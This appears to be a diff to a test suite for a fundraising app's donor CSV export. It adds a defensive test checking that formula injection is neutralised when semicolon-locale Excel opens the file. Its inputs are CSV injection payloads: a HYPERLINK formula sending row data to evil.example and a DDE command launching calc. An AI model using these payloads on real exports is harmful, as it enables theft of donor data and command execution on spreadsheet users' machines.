@@ -51,7 +51,33 @@ describe('donor export', () => {
     const records = parse(res.body.slice(1), { relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
     expect(records.every((r) => r.length === records[0]!.length)).toBe(true);
     expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
-    expect(records.find((r) => r[1] === 'Row Breaker')?.at(-1)).toBe(message);
+    // Each line a spreadsheet splitting at ";" would start a row with is marked text (the test below).
+    expect(records.find((r) => r[1] === 'Row Breaker')?.at(-1)).toBe("Solidarity from Lyon\n'=2+3\n'@SUM(A1)");
+  });
+
+  // Excel in French, German, Spanish, Russian or Swedish opens a .csv by splitting each line at ";"
+  // (their list separator), and there a quote that does not begin a cell is a plain character: a
+  // comma-CSV's quoted cell keeps neither its ";" nor its line breaks inside. What a donor wrote
+  // after a ";" or a line break began a cell of its own, which the treasurer's spreadsheet ran as a
+  // formula: a HYPERLINK sending the row (names, addresses) away, a DDE command.
+  it('keeps what follows a ";" or a line break inert for spreadsheets that split cells at ";"', async () => {
+    const donorName = 'Jean;=HYPERLINK("https://evil.example/?d="&A1,"Reçu")';
+    const message = "Courage ;@SUM(1+1)*cmd|' /C calc'!A0\n-2+3";
+    const { checkoutUrl } = await h.donate('buck-a-brick', { donorName, amountMinor: '400', message });
+    await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
+    await h.settle();
+    const organizer = await signIn(h.app, 'organizer@ue222.demo');
+    const res = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
+    // Read as such a spreadsheet reads it: cells end at ";", rows at CR, LF or CRLF, quotes only
+    // quote at a cell's start. No cell begins a formula.
+    const cells = parse(res.body.slice(1), { delimiter: ';', relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
+    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    // Read with commas, the donor's words are all there, each spot a cell could begin marked text.
+    const records = parse(res.body.slice(1), { columns: true }) as Record<string, string>[];
+    expect(records.find((r) => r.name!.startsWith('Jean'))).toMatchObject({
+      name: `Jean;'=HYPERLINK("https://evil.example/?d="&A1,"Reçu")`,
+      message: "Courage ;'@SUM(1+1)*cmd|' /C calc'!A0\n'-2+3",
+    });
   });
 
   // A treasurer reconciles the list with Stripe: the charge was the gift and the fees its donor
